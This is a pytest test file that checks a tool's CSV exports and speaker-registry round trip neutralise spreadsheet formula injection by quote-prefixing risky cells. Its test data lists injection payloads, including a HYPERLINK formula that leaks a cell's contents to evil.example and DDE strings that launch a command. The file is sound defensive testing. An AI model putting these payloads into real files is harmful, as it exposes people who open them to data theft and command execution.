"""CSV: no cell is a live spreadsheet formula, and no cell holds a Python repr."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from saidwhat.cli.main import cli
from saidwhat.model import Person
from saidwhat.reports.csv_cells import FORMULA_STARTS, csv_cell, neutralise, uncell
from saidwhat.store.db import open_store
from saidwhat.store.documents import store_document

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "search"))
from search_samples import make_document

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 is what the minister wrote",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
]


@pytest.fixture
def db(tmp_path: Path) -> str:
    path = tmp_path / "csv.db"
    store = open_store(path)
    said = [{"quote": q, "mention": "=Anna Berg"} for q in HOSTILE]
    said.append({"quote": "a quiet, ordinary sentence", "mention": "Ivo Marsk"})
    people = [Person("=Anna Berg", roles=["harbour master", "=chair"]), Person("Ivo Marsk")]
    doc, extraction = make_document("=evil.txt", said, people, title="@title", outlet="-Outlet")
    for st in extraction.statements:
        st.role = "harbour master"
    store_document(store, doc, extraction)
    store.close()
    return str(path)


def assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert not (cell.startswith("[") and cell.endswith("]") and "'" in cell), cell
    return rows


@pytest.mark.parametrize(
    "args",
    [
        ["export", "--format", "csv"],
        ["quotes", "--format", "csv", "--limit", "100"],
        ["speakers", "--format", "csv"],
        ["speakers", "export"],
    ],
)
def test_every_csv_is_safe(db, args):
    result = CliRunner().invoke(cli, ["--db", db, *args])
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(result.stdout)
    flat = [cell for row in rows for cell in row]
    # The text itself is all there, behind one quote mark.
    assert any(cell == "'" + HOSTILE[0] for cell in flat) or args[0] == "speakers"
    assert any(cell.startswith("'=Anna Berg") for cell in flat)


def test_export_file_is_safe(db, tmp_path):
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["--db", db, "export", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = assert_no_formula(out.read_text(encoding="utf-8"))
    header = rows[0]
    fragments = [r[header.index("fragments")] for r in rows[1:]]
    assert all(f == "" or f.startswith("[[") for f in fragments)


def test_registry_round_trips_through_the_guard(db, tmp_path):
    out = tmp_path / "registry.csv"
    runner = CliRunner()
    assert runner.invoke(cli, ["--db", db, "speakers", "export", "-o", str(out)]).exit_code == 0
    assert "'=Anna Berg" in out.read_text()
    fresh = str(tmp_path / "fresh.db")
    result = runner.invoke(cli, ["--db", fresh, "speakers", "import", str(out)])
    assert result.exit_code == 0, result.output
    listed = runner.invoke(cli, ["--db", fresh, "speakers", "--format", "json"])
    assert "=Anna Berg" in listed.stdout and "'=Anna" not in listed.stdout


def test_cells():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("plain") == "plain"
    assert uncell(neutralise("-x")) == "-x" and uncell("'quoted'") == "'quoted'"
    assert csv_cell(-3) == -3 and csv_cell(True) == 1 and csv_cell(None) == ""
    assert csv_cell(["harbour master", "chair"]) == "harbour master; chair"
    assert csv_cell([[1, 2], [3, 4]]) == "[[1, 2], [3, 4]]"
    assert csv_cell({"a": 1}) == '{"a": 1}'
